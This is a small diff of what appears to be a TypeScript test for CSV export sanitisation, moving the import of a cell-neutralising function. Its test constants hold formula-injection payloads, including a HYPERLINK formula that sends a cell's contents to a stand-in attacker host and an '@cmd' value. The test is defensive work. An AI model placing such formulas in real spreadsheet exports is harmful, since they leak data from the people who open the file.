@@ -14,7 +14,7 @@ import {
   insertPublishedQuestionnaire,
   type StudyWorld,
 } from '../../../../test/review-actors.js';
-import { neutralizeCell } from './format.js';
+import { neutralizeCell } from '../../../platform/csv-cells.js';
 
 const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Dr Click")';
 const FORMULA_ANSWER = '+SUM(1+2)@cmd';
